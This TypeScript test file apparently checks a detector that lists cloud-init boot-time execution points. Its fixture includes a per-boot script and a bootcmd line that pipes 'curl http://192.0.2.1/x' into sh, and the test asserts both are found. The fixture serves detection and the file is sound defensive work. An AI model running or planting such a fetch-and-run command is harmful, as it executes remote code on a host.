import assert from 'node:assert/strict'
import { testKind } from '../../test/kinds.ts'
import { cloudInit } from './cloud-init.ts'

testKind(cloudInit, {
  tree: {
    '/var/lib/cloud/scripts/per-boot/x.sh': '#!/bin/sh\n/tmp/x\n',
    '/etc/cloud/cloud.cfg.d/99.cfg': '#cloud-config\nbootcmd:\n - curl http://192.0.2.1/x | sh\n',
    '/etc/cloud/cloud.cfg.d/05_logging.cfg': '## runcmd: none\nlog_cfgs:\n - a\n',
  },
  lists: [
    '/var/lib/cloud/scripts/per-boot/x.sh:1 /var/lib/cloud/scripts/per-boot/x.sh',
    '/etc/cloud/cloud.cfg.d/99.cfg:1 /etc/cloud/cloud.cfg.d/99.cfg',
  ],
  also: entries =>
    assert.deepEqual(
      entries.map(e => e.when),
      ['per-boot', 'bootcmd:'],
    ),
})
